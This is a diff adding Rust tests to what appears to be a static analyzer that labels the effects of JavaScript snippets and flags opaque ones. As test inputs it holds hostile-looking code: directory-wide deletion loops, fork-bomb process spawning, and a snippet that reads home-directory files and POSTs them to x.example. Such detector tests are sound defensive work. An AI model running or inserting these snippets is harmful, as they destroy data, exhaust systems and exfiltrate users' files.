@@ -392,3 +392,81 @@ fn bad_code_never_panics() {
     code.push_str("require('child_process').execSync(a39)");
     assert!(opaque(&code).is_some());
 }
+
+#[test]
+fn a_loop_over_a_listing_takes_each_name_found() {
+    for code in [
+        "const fs = require('fs'); for (const f of fs.readdirSync('dist')) fs.unlinkSync('dist/' + f)",
+        "const fs = require('fs'); fs.readdirSync('dist').forEach(f => fs.unlinkSync('dist/' + f))",
+        // The same name taken by a filter and then each: both are the listing's names.
+        "const fs = require('fs'); fs.readdirSync('dist').filter(f => f.endsWith('.map')).forEach(f => fs.unlinkSync('dist/' + f))",
+    ] {
+        assert_eq!(effects(code), ["rm dist/*"], "{code}");
+    }
+    assert_eq!(
+        effects(
+            "const fs = require('fs'); for (const f of require('glob').sync('build/**/*.o')) fs.rmSync(f)"
+        ),
+        ["rm build/**/*.o"]
+    );
+    // A name some other binding also takes is not the listing's.
+    assert_eq!(
+        effects(
+            "const fs = require('fs'); function g(f) { fs.rmSync(f) } for (const f of fs.readdirSync('d')) g(f)"
+        ),
+        ["rm ?"]
+    );
+    // Anything that is not a listing stays unknown: `d/` and then anything (`../..`).
+    assert_eq!(
+        effects("const fs = require('fs'); for (const f of getNames()) fs.rmSync('d/' + f)"),
+        ["rm d/*"]
+    );
+    assert_eq!(
+        crate::matcher::code::read(Lang::JavaScript, "require('fs').rmSync('d/' + x)").found[0]
+            .effect,
+        crate::matcher::code::Effect::Command(
+            "rm",
+            vec![crate::matcher::code::Val::Prefix("d/".into())]
+        )
+    );
+}
+
+#[test]
+fn starting_processes_in_an_endless_loop_is_a_fork_bomb() {
+    for code in [
+        "for (;;) require('child_process').spawn('sleep', ['9'])",
+        "while (true) require('child_process').exec('sleep 9 &')",
+        "setInterval(() => require('child_process').spawn('sleep', ['9']), 0)",
+    ] {
+        assert!(opaque(code).is_some(), "{code}");
+    }
+    // A bounded loop, or one left by `break`, is ordinary.
+    for code in [
+        "for (const f of ['a', 'b']) require('child_process').spawnSync('echo', [f])",
+        "while (true) { if (require('child_process').spawnSync('git', ['fetch']).status === 0) break }",
+    ] {
+        assert_eq!(opaque(code), None, "{code}");
+    }
+}
+
+#[test]
+fn an_unknown_file_read_and_sent_away_is_opaque() {
+    let code = "const fs = require('fs'); const d = {}; for (const f of names) d[f] = fs.readFileSync(require('os').homedir() + '/' + f); fetch('https://x.example', {method: 'POST', body: JSON.stringify(d)})";
+    assert_eq!(
+        opaque(code),
+        Some(
+            "the code reads a file whose name is not known before it runs and sends data over the network"
+        )
+    );
+    // A known file sent, or an unknown one only read, is read as what it is.
+    assert_eq!(
+        opaque(
+            "fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync('report.json')})"
+        ),
+        None
+    );
+    assert_eq!(
+        opaque("console.log(require('fs').readFileSync(process.argv[2], 'utf8'))"),
+        None
+    );
+}
